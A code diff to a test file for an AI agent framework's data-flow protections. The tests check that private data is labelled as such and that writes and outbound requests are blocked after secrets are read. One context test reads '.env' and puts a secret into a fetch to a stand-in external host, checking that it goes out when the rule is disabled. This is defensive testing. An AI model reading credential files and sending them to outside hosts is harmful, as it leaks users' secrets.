@@ -11,7 +11,7 @@ from agents.api.errors import PermissionDenied
 from agents.cluster import Cluster
 from agents.memory.entry import USER
 from agents.memory.store import MemoryStore
-from agents.memory.tool import memory_tool, project_scope
+from agents.memory.tool import project_scope
 from agents.pipelines.pipeline_file import parse_pipeline
 from agents.pipelines.pipeline_run import Means, PipelineRun
 from agents.procedures.procedure import AgentTask
@@ -19,9 +19,11 @@ from agents.runs.approvals import Approvals
 from agents.runs.event_log import EventLog
 from agents.runs.result import result_from_fields
 from agents.runs.tool_executor import ToolExecutor
+from agents.sandbox.captured_output import CapturedOutput
+from agents.sandbox.sandbox import CommandResult
 from agents.steps.shared_document import PRIVATE_NOTE, shared_document, shared_taint
-from agents.tools.builtin import TOOLS
 from agents.tools.sensitive import MAX_CHECKED_CHARS, file_taint, taint_of
+from agents.tools.shell import SHELL, ShellArguments
 from agents.tools.tool import Taint, ToolContext
 from agents.workspace.workspace import Workspace, open_workspace
 from tests.fakes.attack_world import IBAN, PASSWORD, SECRET, World
@@ -36,9 +38,9 @@ def world(tmp_path):
     return made
 
 
-def executor_of(world, *, mode="auto", approvals=None):
+def executor_of(world, *, mode="auto", approvals=None, **options):
     tools = world.tools()
-    spec = AgentSpec("t", "audit", "", "", tuple(tools), (), "Answer", permission_mode="auto")
+    spec = AgentSpec("t", "audit", "", "", tuple(tools), (), "Answer", **options)
     return ToolExecutor(
         spec=spec,
         tools=tools,
@@ -96,6 +98,19 @@ def test_texts_are_private_by_what_they_hold():
     assert file_taint("x = 1") == {UNTRUSTED, LOCAL}
 
 
+async def test_what_a_command_prints_is_untrusted(world, monkeypatch):
+    class FixedSandbox:
+        async def run(self, command, policy):
+            return CommandResult(0, CapturedOutput(f"key {SECRET}".encode(), size=31), 0.1)
+
+    async def opened(mode):
+        return FixedSandbox()
+
+    monkeypatch.setattr("agents.tools.shell.open_sandbox", opened)
+    output = await SHELL.call(ShellArguments(command="env"), ToolContext(root=world.root))
+    assert output.taint == {UNTRUSTED, LOCAL, PRIVATE}
+
+
 async def test_nothing_is_sent_unasked_after_a_file_was_read(world):
     executor = executor_of(world)
     await executor.call("http_fetch", {"url": "https://weather.example.org/alder"})
@@ -115,6 +130,13 @@ async def test_files_are_written_unasked_until_private_data_was_read(world):
     with pytest.raises(PermissionDenied):
         await executor.call("write", {"path": "b.txt", "content": "b"})
     assert not (world.root / "b.txt").exists()
+
+
+async def test_a_specification_may_tighten_the_mode(world):
+    executor = executor_of(world, permission_mode="ask")
+    assert "write" not in {tool.name for tool in executor.permitted()}
+    with pytest.raises(PermissionDenied):
+        await executor.call("write", {"path": "a.txt", "content": "a"})
 
 
 async def test_an_approval_given_before_private_data_was_read_does_not_cover_what_follows(world):
@@ -237,8 +259,3 @@ async def test_the_rule_can_only_be_switched_off_on_the_executor(world):
     await executor.call("read", {"path": ".env"})
     await executor.call("http_fetch", {"url": f"https://x.example.net/{SECRET}"})
     assert world.sent
-
-
-def test_all_tools_that_read_files_label_what_they_read():
-    assert {"read", "grep", "glob", "git", "python", "edit"} <= {tool.name for tool in TOOLS}
-    assert memory_tool().asks_when_untrusted is not None
